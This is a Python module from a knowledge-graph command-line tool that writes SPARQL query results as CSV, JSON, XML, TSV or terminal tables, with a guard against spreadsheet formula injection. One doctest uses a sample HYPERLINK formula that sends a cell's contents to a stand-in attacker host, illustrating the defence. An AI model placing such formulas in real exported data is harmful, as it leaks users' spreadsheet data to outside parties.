"""A SELECT answer of the store written in each output format of ``eukg query``, from pyoxigraph's own terms.

The spreadsheet CSV, the JSON records and the table are written from each term's value; SPARQL JSON, XML
and TSV by pyoxigraph's result serialisers. The same writers serve a query evaluated on the store, a
remote endpoint's rows and a stored answer read back (:mod:`kg.sparql.stored`), so all three give the
same bytes. This module imports neither rdflib nor the store (the prefixes of the table are read when a
table is written): the fast path of ``eukg query`` (:mod:`kg.sparql.fast`) writes a stored answer with it
in a fraction of the start-up of the whole command line. :mod:`kg.sparql.results` has the writers of
rdflib results and says more of each form.

>>> spreadsheet_cell("=1+1"), spreadsheet_cell("-12.5")
("'=1+1", '-12.5')
"""

from __future__ import annotations

import csv
import re
from collections.abc import Callable
from json.encoder import encode_basestring
from typing import BinaryIO, TextIO

import pyoxigraph as ox

from kg.formats import RDF_SYNTAXES, RdfSyntax, ResultsFormat, UnknownFormat, any_format, results_format

__all__ = ["BOOLEAN_TYPE", "FORMATS", "FORMULA_STARTS", "INTEGER_TYPES", "RECORDS_NAMES", "answer_table",
           "output_format", "prefixed_iri", "prefixed_value", "spreadsheet_cell", "write_answer", "write_records",
           "write_spreadsheet_csv", "write_table"]

#: What ``eukg query --format`` writes for a SELECT query (``json`` is the JSON records, as it always was;
#: the standard SPARQL JSON is ``srj`` or ``sparql-json``); any RDF syntax of :mod:`kg.formats` writes the triples
#: of a CONSTRUCT or DESCRIBE query.
FORMATS = ("table", "csv", "tsv", "json", "records", "srj", "xml")
#: The names that ask ``eukg query`` for the JSON records, not the SPARQL JSON results the registry calls ``json``.
RECORDS_NAMES = ("json", "records", "objects")
#: XSD datatypes whose values a JSON record holds as numbers (rdflib's ``toPython`` gives an int for each).
_XSD = "http://www.w3.org/2001/XMLSchema#"
INTEGER_TYPES = frozenset(_XSD + name for name in (
    "integer", "int", "long", "short", "byte", "nonNegativeInteger", "positiveInteger", "nonPositiveInteger",
    "negativeInteger", "unsignedLong", "unsignedInt", "unsignedShort", "unsignedByte"))
BOOLEAN_TYPE = _XSD + "boolean"
_INTEGER = re.compile(r"\s*[+-]?\d+\s*")

#: First characters that make a spreadsheet read a cell as a formula (OWASP, "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: What follows the namespace in a prefixed name a table shows: no slash, space or other delimiter.
_LOCAL = re.compile(r"[\w.~%-]+(?<!\.)")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
_BY_LENGTH: list[tuple[str, str]] = []


def spreadsheet_cell(value: str) -> str:
    r"""Return ``value`` as a spreadsheet shows it as text: a quote in front when it would start a formula.

    Examples
    --------
    >>> print(spreadsheet_cell('=HYPERLINK("http://evil.example/?x="&A1,"click")'))
    '=HYPERLINK("http://evil.example/?x="&A1,"click")
    >>> [spreadsheet_cell(v) for v in ("-12.5", "+3", "@SUM(1+1)", "-2+3", chr(9) + "x", "Timișoara", "")]
    ['-12.5', '+3', "'@SUM(1+1)", "'-2+3", "'\tx", 'Timișoara', '']
    """
    if value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def output_format(value: str) -> ResultsFormat | RdfSyntax:
    """Return what ``eukg query --format VALUE`` writes: one of :data:`FORMATS` or an RDF syntax (by any alias).

    ``json`` is the JSON records (:data:`RECORDS_NAMES`); SPARQL JSON results are ``srj``, ``sparql-json`` or
    their media type. ``xml`` is SPARQL XML results; RDF/XML is ``rdfxml`` (or ``rdf``, ``application/rdf+xml``).

    >>> output_format("turtle").name, output_format("json").name, output_format("srj").name, output_format("srx").name
    ('ttl', 'records', 'json', 'xml')
    """
    if value.strip().lower() in RECORDS_NAMES:
        return results_format("records")
    try:
        fmt = any_format(value)
    except UnknownFormat:
        fmt = None
    if fmt is None or (isinstance(fmt, ResultsFormat) and fmt.name not in (*FORMATS, "json")):
        known = [*FORMATS, *(name for syntax in RDF_SYNTAXES.values() for name in (syntax.name, *syntax.aliases))]
        accepted = [*FORMATS, "or an RDF syntax (ttl, nt, nq, trig, jsonld, rdfxml, n3)"]
        raise UnknownFormat("query output", value, accepted, known)
    return fmt


def _value(term: ox.NamedNode | ox.BlankNode | ox.Literal | None) -> str:
    """Return a pyoxigraph term as the SPARQL CSV results format writes it: the IRI, or the literal's lexical form."""
    return "" if term is None else term.value


def write_spreadsheet_csv(answer: ox.QuerySolutions, out: TextIO) -> None:
    """Write ``answer`` to ``out`` as CSV for a spreadsheet (:func:`kg.sparql.results.to_spreadsheet_csv`'s text),
    a row at a time as the store gives it."""
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([spreadsheet_cell(v.value) for v in answer.variables])
    cell = spreadsheet_cell
    writer.writerows([cell(term.value) if term is not None else "" for term in solution] for solution in answer)


def _json_value(term: ox.NamedNode | ox.BlankNode | ox.Literal | None) -> str:
    """Return the JSON text of a term's value in a record: a number or boolean where its datatype is one."""
    if term is None:
        return "null"
    if isinstance(term, ox.Literal):
        datatype = term.datatype.value
        if datatype in INTEGER_TYPES and _INTEGER.fullmatch(term.value):
            return str(int(term.value))
        if datatype == BOOLEAN_TYPE:
            return "true" if term.value in ("true", "1") else "false"
    return encode_basestring(term.value)


def write_records(answer: ox.QuerySolutions, out: TextIO) -> None:
    """Write ``answer`` to ``out`` as :func:`kg.sparql.results.to_json` does (the same text), a row at a time.

    Each value is encoded by the json module's own string encoder; the layout is ``json.dumps(…, indent=2)``'s.
    """
    keys = [encode_basestring(v.value) for v in answer.variables]
    first = True
    for solution in answer:
        fields = ",\n    ".join(f"{key}: {_json_value(term)}" for key, term in zip(keys, solution, strict=True))
        out.write(("[\n  {" if first else ",\n  {") + (f"\n    {fields}\n  }}" if fields else "}"))
        first = False
    out.write("[]\n" if first else "\n]\n")


def prefixed_value(term: ox.NamedNode | ox.BlankNode | ox.Literal | None) -> str:
    """Return a pyoxigraph term as a table shows it: an IRI as a prefixed name of the project's prefixes where one fits.

    >>> prefixed_value(ox.NamedNode("http://data.europa.eu/nuts/code/PL81")), prefixed_value(ox.Literal("PL81"))
    ('nuts:PL81', 'PL81')
    """
    if not isinstance(term, ox.NamedNode):
        return _value(term)
    return prefixed_iri(term.value)


def prefixed_iri(iri: str) -> str:
    """Return ``iri`` as a prefixed name of the project's prefix map where one fits, else whole.

    >>> prefixed_iri("https://w3id.org/eu-regional-kg/id/organisation/city-of-turin")
    'orgn:city-of-turin'
    """
    if not _BY_LENGTH:  # the prefixes come with rdflib's namespaces: read when a table is first written
        from kg.namespaces import PREFIXES

        _BY_LENGTH.extend(sorted(PREFIXES.items(), key=lambda item: -len(item[1])))
    for prefix, namespace in _BY_LENGTH:
        if iri.startswith(namespace) and _LOCAL.fullmatch(iri[len(namespace):]):
            return f"{prefix}:{iri[len(namespace):]}"
    return iri


def answer_table(answer: ox.QuerySolutions, title: str | None = None,
                 wide: bool = False) -> rich.table.Table:  # noqa: F821
    """Return ``answer`` as a rich table for the terminal: IRIs as prefixed names, or whole when ``wide``."""
    from rich.table import Table

    show = _value if wide else prefixed_value
    table = Table(title=title, show_lines=False)
    for variable in answer.variables:
        table.add_column(variable.value, overflow="fold")
    for solution in answer:
        table.add_row(*(show(term) for term in solution))
    return table


def _serialiser(fmt: ResultsFormat) -> Callable[[ox.QuerySolutions, BinaryIO], None]:
    """Return the writer of pyoxigraph's own serialiser of ``fmt`` (SPARQL JSON, XML, CSV or TSV)."""

    def write(answer: ox.QuerySolutions, out: BinaryIO) -> None:
        answer.serialize(out, format=fmt.oxigraph)
        if fmt.name in ("json", "xml"):
            out.write(b"\n")

    return write


def write_answer(answer: ox.QuerySolutions, fmt: ResultsFormat, text: TextIO, binary: BinaryIO,
                 title: str | None = None, wide: bool = False) -> None:
    """Write a SELECT answer in ``fmt`` (from :func:`output_format`), as the rows come.

    ``text`` takes the spreadsheet CSV and the JSON records, ``binary`` what pyoxigraph's serialisers write
    (SPARQL JSON, XML, TSV); the table is printed with rich. Read an answer of the store inside
    :func:`kg.sparql.queries.evaluation_errors`: the store evaluates it while it is written.
    """
    if fmt.name == "csv":
        write_spreadsheet_csv(answer, text)
    elif fmt.name == "records":
        write_records(answer, text)
    elif fmt.oxigraph is not None:
        text.flush()
        _serialiser(fmt)(answer, binary)
        binary.flush()
    else:
        write_table(answer, text, title=title, wide=wide)


def write_table(answer: ox.QuerySolutions, out: TextIO, title: str | None = None, wide: bool = False) -> None:
    """Write ``answer`` as a table for the terminal: with rich up to :data:`kg.sparql.plain_table.ROWS` rows, past
    them line by line in rich's frame (:func:`kg.sparql.plain_table.write_table`, 10× less CPU)."""
    from kg.sparql import plain_table

    show = _value if wide else prefixed_value
    columns = [variable.value for variable in answer.variables]
    rows = [[show(term) for term in solution] for solution in answer]
    if len(rows) > plain_table.ROWS:
        plain_table.write_table(columns, rows, out, title=title, room=plain_table.terminal_width())
        return
    from rich.console import Console
    from rich.table import Table

    table = Table(title=title, show_lines=False)
    for column in columns:
        table.add_column(column, overflow="fold")
    for row in rows:
        table.add_row(*row)
    Console().print(table)
